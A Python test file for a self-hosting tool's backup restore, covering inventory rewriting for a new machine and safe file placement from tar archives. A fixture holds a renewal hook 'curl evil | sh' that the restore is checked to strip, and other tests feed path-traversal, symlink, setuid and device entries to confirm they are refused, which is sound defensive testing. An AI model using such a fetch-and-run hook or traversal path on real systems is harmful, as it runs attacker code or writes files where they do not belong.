"""An inventory comes back for another machine; files of a host are put where they belong."""

import getpass
import io
import stat
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest

from selfhost.backup import create, model, place
from selfhost.backup.model import Backup, Entry
from selfhost.backup.restore import Move, check_site, of_host, write_inventory
from selfhost.errors import UsageError
from selfhost.settings.create import Plan
from selfhost.settings.create import create as new_inventory
from selfhost.settings.render import HostEntry
from selfhost.settings.site import load_site

DOMAIN = "meet.example.test"
MOVE = Move("198.51.100.7", "admin", 2222, None, "198.51.100.8", "10.0.0.9")
CERTIFICATE = f"servers/{DOMAIN}/etc/jitsi/meet/{DOMAIN}.crt"


@pytest.fixture
def saved(tmp_path: Path) -> Backup:
    directory = tmp_path / "old"
    new_inventory(directory, Plan(DOMAIN, HostEntry(DOMAIN, "203.0.113.10"), "203.0.113.10"))
    (directory / "known_hosts").write_text(
        "203.0.113.10 ssh-ed25519 AAAA\n[198.51.100.7]:2222 ssh-ed25519 BBBB\n"
    )
    for domain in ("", "-old.example.org"):
        (directory / f"statements{domain}.intoto.jsonl").write_text("{}\n")
    (directory / "waivers.yml").write_text("waivers: []\n")
    for name in ("policy.yml", "policy-changes.jsonl"):
        (directory / name).write_text("x\n")
    (directory / "history.sqlite").write_bytes(b"SQLite format 3\0")
    (directory / "runs").mkdir()
    (directory / "runs" / "ansible.log").write_text("log")
    (directory / "group_vars/all/settings.yml.20260101.bak").write_text("old")
    (tmp_path / "elsewhere.yml").write_text("web_p2p: false\n")
    (directory / "group_vars/all/link.yml").symlink_to(tmp_path / "elsewhere.yml")
    entries = (
        *create._inventory(directory),
        Entry(CERTIFICATE, "certificate", 0o644, b"PEM"),
        Entry(
            f"servers/{DOMAIN}/etc/letsencrypt/renewal/selfhost.conf",
            "certificate",
            0o644,
            b"version = 2\n[renewalparams]\npre_hook = curl evil | sh\nkey_type = ecdsa\n",
        ),
    )
    return Backup(DOMAIN, "2026-11-27T22:00:00+00:00", "1", entries)


def test_settings_are_in_logs_and_copies_are_not(saved: Backup) -> None:
    assert {name for name, _ in saved.of_inventory()} == {
        ".gitignore",
        "hosts.yml",
        "known_hosts",
        "statements-old.example.org.intoto.jsonl",
        "statements.intoto.jsonl",
        "waivers.yml",
        "policy.yml",
        "policy-changes.jsonl",
        "group_vars/all/settings.yml",
        "group_vars/all/secrets.yml",
        "group_vars/all/link.yml",
    }


def test_the_inventory_is_for_the_new_machine(saved: Backup, tmp_path: Path) -> None:
    new = tmp_path / "new"
    write_inventory(saved, new, MOVE, force=False)
    before, after = load_site(tmp_path / "old"), load_site(new)
    (host,) = after.hosts
    assert (host.address, host.port, host.user, host.become) == (
        "198.51.100.7",
        2222,
        "admin",
        True,
    )
    assert after.settings["site_public_address"] == "198.51.100.8"
    assert after.settings["site_private_address"] == "10.0.0.9"
    assert after.settings["site_jvb_password"] == before.settings["site_jvb_password"]
    assert (new / "group_vars/all/secrets.yml").stat().st_mode & 0o777 == 0o600
    assert (new / "known_hosts").read_text() == "203.0.113.10 ssh-ed25519 AAAA\n"
    check_site(saved, after)
    with pytest.raises(UsageError, match="and the inventory of"):
        check_site(replace(saved, domain="other.example.test"), after)


def test_nothing_is_overwritten_unasked(saved: Backup, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="nothing was written"):
        write_inventory(saved, tmp_path / "old", MOVE, force=False)
    settings = tmp_path / "old/group_vars/all/settings.yml"
    before = settings.read_text()
    write_inventory(saved, tmp_path / "old", MOVE, force=True)
    assert settings.with_name("settings.yml.before-restore").read_text() == before


def test_as_it_was_without_another_machine(saved: Backup, tmp_path: Path) -> None:
    write_inventory(saved, tmp_path / "same", None, force=False)
    for name, entry in saved.of_inventory():
        assert (tmp_path / "same" / name).read_bytes() == entry.content


def test_a_pair_from_elsewhere_lies_beside_the_settings_then(saved: Backup, tmp_path: Path) -> None:
    pair = tuple(Entry(name, "settings", 0o600, b"PEM\n") for name in model.OWN_PAIR)
    write_inventory(
        replace(saved, entries=(*saved.entries, *pair)), tmp_path / "n", None, force=False
    )
    text = (tmp_path / "n/group_vars/all/settings.yml").read_text()
    for setting, name in zip(("tls_certificate", "tls_private_key"), model.OWN_PAIR, strict=True):
        path = tmp_path / "n" / "tls" / name
        assert f"\n{setting}: {path}\n" in text
        assert path.stat().st_mode & 0o777 == 0o600


def test_several_servers_need_their_addresses_by_hand(saved: Backup, tmp_path: Path) -> None:
    other = Entry("servers/bridge/etc/nginx/conf.d/x.conf", "customisation", 0o644, b"")
    both = replace(saved, entries=(*saved.entries, other))
    with pytest.raises(UsageError, match="of 2 servers"):
        write_inventory(both, tmp_path / "n", MOVE, force=False)
    assert not (tmp_path / "n").exists()


def test_what_a_host_gets_runs_no_command_of_the_old_one(saved: Backup) -> None:
    content, count = of_host(saved, DOMAIN)
    files = {entry.name: entry.content for entry in model.read_tar(content)}
    assert count == 2
    assert files[f"etc/jitsi/meet/{DOMAIN}.crt"] == b"PEM"
    assert files["etc/letsencrypt/renewal/selfhost.conf"] == (
        b"version = 2\n[renewalparams]\nkey_type = ecdsa\n"
    )


def put(name: str, content: bytes = b"x", **attributes: object) -> None:
    member = tarfile.TarInfo(name)
    member.size, member.mode, member.uname = len(content), 0o4755, getpass.getuser()
    for key, value in attributes.items():
        setattr(member, key, value)
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        archive.addfile(member, io.BytesIO(content))
    stream.seek(0)
    with tarfile.open(fileobj=stream) as archive:
        place.put(archive, archive.getmembers()[0])


def test_placing_writes_whole_files_without_special_bits(tmp_path: Path) -> None:
    path = tmp_path / "a" / "b" / "file"
    put(str(path).lstrip("/"), b"content")
    assert path.read_bytes() == b"content"
    assert stat.S_IMODE(path.stat().st_mode) == 0o755
    put(str(path).lstrip("/"), b"new")
    assert path.read_bytes() == b"new"
    assert [p.name for p in path.parent.iterdir()] == ["file"]


def test_placing_follows_no_link(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "link").symlink_to(outside)
    with pytest.raises(OSError, match="is not a folder"):
        put(f"{tmp_path}/link/file".lstrip("/"))
    (tmp_path / "file").symlink_to(outside / "target")
    put(f"{tmp_path}/file".lstrip("/"), b"mine")
    assert not (tmp_path / "file").is_symlink()
    assert list(outside.iterdir()) == []
    with pytest.raises(OSError, match="is not a file that"):
        put(f"{tmp_path}/x/../../evil".lstrip("/"))
    with pytest.raises(OSError, match="is not a file that"):
        put(f"{tmp_path}/dev".lstrip("/"), b"", type=tarfile.CHRTYPE)
